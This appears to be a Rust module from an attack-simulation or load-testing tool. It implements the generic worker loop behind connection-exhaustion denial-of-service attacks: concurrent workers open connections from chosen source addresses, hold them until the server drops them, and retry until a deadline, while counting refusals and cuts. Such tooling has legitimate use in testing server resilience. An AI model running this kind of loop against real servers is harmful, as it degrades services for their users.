//! The shape most connection-exhaustion attacks share: open a connection from a source
//! address, send a little (or nothing), hold it until the server cuts it, and open another,
//! until the attack ends.

use std::future::Future;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt};

use super::{AttackCounters, AttackCtx};

/// Pause after a refused connection before the next attempt.
pub const RETRY_PAUSE: Duration = Duration::from_millis(500);

/// Runs `ctx.preset.connections` workers until `ctx.until`. Each calls `open(ctx, source)`
/// for a connection with its opening bytes already sent (`None`: refused), then holds it
/// until the server closes or resets it, and starts again.
pub async fn run<S, F, Fut>(ctx: AttackCtx, counters: Arc<AttackCounters>, open: F)
where
    S: AsyncRead + Unpin + Send + 'static,
    F: Fn(AttackCtx, std::net::IpAddr) -> Fut + Clone + Send + Sync + 'static,
    Fut: Future<Output = Option<S>> + Send,
{
    let mut workers = Vec::with_capacity(ctx.preset.connections);
    for i in 0..ctx.preset.connections {
        let (ctx, counters, open) = (ctx.clone(), counters.clone(), open.clone());
        workers.push(tokio::spawn(async move {
            let src = ctx.sources.pick(i);
            let until = ctx.until;
            let work = async {
                loop {
                    counters.connects.fetch_add(1, Ordering::Relaxed);
                    let Some(mut conn) = open(ctx.clone(), src).await else {
                        counters.refused.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(RETRY_PAUSE).await;
                        continue;
                    };
                    counters.opened();
                    let mut sink = [0u8; 1024];
                    // Held until the server closes, resets or answers (and then closes).
                    while matches!(conn.read(&mut sink).await, Ok(n) if n > 0) {}
                    counters.closed();
                    counters.cut.fetch_add(1, Ordering::Relaxed);
                }
            };
            let _ = tokio::time::timeout_at(until, work).await;
        }));
    }
    for w in workers {
        let _ = w.await;
    }
    counters.open.store(0, Ordering::Relaxed);
}
